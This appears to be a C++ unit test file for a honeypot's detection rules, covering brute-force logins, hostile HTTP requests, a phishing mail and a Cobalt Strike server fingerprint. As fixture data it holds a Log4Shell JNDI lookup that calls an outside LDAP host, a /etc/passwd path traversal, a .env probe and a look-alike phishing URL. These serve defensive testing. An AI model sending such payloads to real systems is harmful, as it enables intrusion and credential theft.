// The lifters in `decnet serve`, fed by what real deckies send: login attempts grouped into
// brute-force episodes, HTTP requests, a mail stored by an SMTP decky (through email.received),
// and the prober's JARM of an attacker's own server. Each finding is one tag however often its
// evidence repeats, and no tag's evidence holds a password or a mail address.
#include <gtest/gtest.h>

#include <cstdio>
#include <string>

#include "core/base64.h"
#include "serve_support.h"

namespace decnet::app {
namespace {

using namespace decnet::testing;

std::string line(int second, const std::string& decky, const std::string& app,
                 const std::string& msgid, const std::string& sd) {
  char ts[64];
  std::snprintf(ts, sizeof ts, "2026-05-02T07:%02d:%02d.000000+00:00", second / 60, second % 60);
  return std::string("<134>1 ") + ts + " " + decky + " " + app + " - " + msgid + " [relay@55555 " +
         sd + "]";
}

std::string login(int second, const std::string& ip, const std::string& user,
                  const std::string& password, const std::string& outcome) {
  return octet_frame(line(second, "decky-02", "ssh", "auth_attempt",
                          "src_ip=\"" + ip + "\" username=\"" + user + "\" secret_b64=\"" +
                              core::base64_encode(password) + "\" outcome=\"" + outcome + "\""));
}

std::string request(int second, const std::string& ip, const std::string& path,
                    const std::string& headers) {
  return octet_frame(line(second, "web-01", "http", "request",
                          "method=\"GET\" path=\"" + path + "\" remote_addr=\"" + ip +
                              "\" headers=\"" + headers + "\" body=\"\""));
}

class ServeLifters : public ::testing::Test {
 protected:
  void SetUp() override { ASSERT_TRUE(serve_.wait_ready()) << serve_.output(); }
  std::int64_t count(const std::string& where) {
    return sqlite_int(serve_.db(), "SELECT COUNT(*) FROM ttp_tag WHERE " + where).value_or(-1);
  }
  ServeProcess serve_;
};

TEST_F(ServeLifters, ABruteForceEpisodeIsOneFindingAndItsDefaultPasswordAnother) {
  const std::string ip = "198.51.100.81";
  std::string stream;
  for (int i = 0; i < 12; ++i)
    stream += login(i, ip, "root", "guess-" + std::to_string(i), "failure");
  stream += login(13, ip, "pi", "raspberry", "success");
  // Another attacker: two failures, then the right password: no brute force, no prior brute.
  stream += login(0, "198.51.100.82", "admin", "x", "failure");
  stream += login(1, "198.51.100.82", "admin", "y", "failure");
  stream += login(2, "198.51.100.82", "admin", "hunter2", "success");
  TcpClient client(serve_.tcp_port());
  ASSERT_TRUE(client.send(stream));

  // 12 failures: one T1110 (R0001) and one T1110.001 (R0002, twelve passwords for root); the
  // success after them: valid account after brute force (R0005) and a default pair (R0006).
  ASSERT_TRUE(wait_until([&] { return count("rule_id = 'R0006'") == 1; })) << serve_.output();
  ASSERT_TRUE(wait_until([&] { return count("rule_id = 'R0005'") == 1; })) << serve_.output();
  EXPECT_EQ(count("rule_id = 'R0001'"), 1);
  EXPECT_EQ(count("rule_id = 'R0002'"), 1);
  EXPECT_EQ(count("rule_id = 'R0001' AND evidence LIKE '%\"fail_count\":5%'"), 1);
  EXPECT_EQ(count("rule_id = 'R0002' AND evidence LIKE '%\"username\":\"root\"%'"), 1);
  EXPECT_EQ(count("source_kind = 'auth_attempt' AND attacker_uuid = (SELECT uuid FROM attackers "
                  "WHERE ip = '198.51.100.82')"),
            0);
  // Passwords never: not in clear, not as base64.
  EXPECT_EQ(count("evidence LIKE '%raspberry%' OR evidence LIKE '%guess-%' OR evidence LIKE "
                  "'%cmFzcGJlcnJ5%'"),
            0);
}

TEST_F(ServeLifters, HttpRequestsAreTaggedByUserAgentPathAndHiddenLookups) {
  const std::string ip = "198.51.100.83";
  std::string stream;
  stream += request(0, ip, "/index.php?id=1",
                    "{\\\"User-Agent\\\": \\\"sqlmap/1.7.2#stable (https://sqlmap.org)\\\"}");
  stream += request(1, ip, "/.env", "{\\\"User-Agent\\\": \\\"curl/8.0\\\"}");
  stream += request(2, ip, "/", "{\\\"X-Api-Version\\\": \\\"${jndi:ldap://198.51.100.9/a}\\\"}");
  stream += request(3, ip, "/../../../../etc/passwd", "{}");
  stream += request(4, ip, "/about.html", "{\\\"User-Agent\\\": \\\"Mozilla/5.0\\\"}");
  // The fingerprint socket's JA4H of a client that sends no headers: a script, not a browser.
  stream += octet_frame(
      line(5, "web-01", "http", "http_request_fingerprint",
           "src_ip=\"" + ip + "\" ja4h=\"ge11nn0000_4740ae6347b0_000000000000_000000000000\""));
  TcpClient client(serve_.tcp_port());
  ASSERT_TRUE(client.send(stream));

  ASSERT_TRUE(wait_until([&] {
    return count("rule_id = 'R0007'") == 2 && count("rule_id = 'R0036'") == 1 &&
           count("rule_id = 'R0008'") == 1 && count("rule_id = 'R0009'") == 1 &&
           count("rule_id = 'R0060'") == 1;
  })) << serve_.output();
  // Each tag names the log row it came from; the harmless request has none.
  EXPECT_EQ(count("source_kind = 'http_request' AND source_id NOT LIKE 'log:%'"), 0);
  EXPECT_EQ(sqlite_value(serve_.db(),
                         "SELECT json_extract(evidence, '$.matched_path') FROM ttp_tag WHERE "
                         "rule_id = 'R0036'"),
            "/.env");
  EXPECT_EQ(count("source_id = 'log:' || (SELECT id FROM logs WHERE fields LIKE '%about.html%')"),
            0);
}

TEST_F(ServeLifters, AStoredMailIsAnnouncedWithoutAddressesAndTagged) {
  const std::string sd =
      "src=\"198.51.100.84\" msg_id=\"4F2A1B\" "
      "stored_as=\"2026-05-02T07:00:00Z_0123456789ab_4F2A1B.eml\" "
      "sha256=\"" +
      std::string(64, 'a') +
      "\" mail_from=\"bulk@spam.example\" "
      "rcpt_to=\"a@one.example, b@one.example, c@two.example\" subject=\"Your account\" "
      "from_hdr=\"Bank <alerts@bank.example>\" return_path=\"bounce@spam.example\" "
      "x_mailer=\"gophish\" dkim_signed=\"0\" spf_pass=\"0\" attachment_count=\"0\" "
      "urls_json=\"[\\\"https://xn--bnk-sna.example/login\\\"]\" body_simhash=\"a1b2c3d4e5f60718\"";
  TcpClient client(serve_.tcp_port());
  ASSERT_TRUE(client.send(octet_frame(line(0, "mail-01", "smtp", "message_stored", sd))));
  // Look-alike link (R0044), phishing kit mailer (R0043), forged sender (R0045).
  ASSERT_TRUE(wait_until([&] {
    return count("rule_id = 'R0044'") == 2 && count("rule_id = 'R0043'") == 2 &&
           count("rule_id = 'R0045'") == 1;
  })) << serve_.output();
  EXPECT_EQ(count("source_kind = 'email' AND source_id = '4F2A1B'"), 5);
  EXPECT_EQ(count("source_kind = 'email' AND evidence LIKE '%@%'"), 0);
  EXPECT_EQ(sqlite_value(serve_.db(),
                         "SELECT json_extract(evidence, '$.matched_url_host') FROM ttp_tag WHERE "
                         "rule_id = 'R0044' LIMIT 1"),
            "xn--bnk-sna.example");
  EXPECT_EQ(sqlite_value(serve_.db(),
                         "SELECT json_extract(evidence, '$.rcpt_domain_set') FROM ttp_tag WHERE "
                         "rule_id = 'R0045'"),
            "[\"one.example\",\"two.example\"]");
}

TEST_F(ServeLifters, AnAttackerServerWithACommandAndControlJarmIsTaggedOnce) {
  const auto jarm = [](int t, const std::string& hash) {
    return octet_frame(
        line(t, "decnet-prober", "prober", "jarm_fingerprint",
             "target_ip=\"198.51.100.85\" target_port=\"443\" jarm_hash=\"" + hash + "\""));
  };
  const std::string cobalt = "07d14d16d21d21d00042d41d00041de5fb3038104f457d92ba02e9311512c2";
  TcpClient client(serve_.tcp_port());
  ASSERT_TRUE(
      client.send(jarm(0, cobalt) + jarm(30, cobalt) +
                  jarm(60, "27d40d40d29d40d1dc42d43d00041d4689ee210389f4f6b4b5b1b93f92252d")));
  ASSERT_TRUE(wait_until([&] { return count("rule_id = 'R0030'") == 2; })) << serve_.output();
  EXPECT_EQ(count("rule_id = 'R0030' AND evidence LIKE '%Cobalt Strike%'"), 2);
  // The later, harmless fingerprint was tagged with nothing; the repeat added nothing.
  ASSERT_TRUE(wait_until([&] {
    return sqlite_int(serve_.db(),
                      "SELECT COUNT(*) FROM logs WHERE event_type = 'jarm_fingerprint'")
               .value_or(0) == 3;
  }));
  EXPECT_EQ(count("source_kind = 'fingerprint'"), 2);
}

}  // namespace
}  // namespace decnet::app
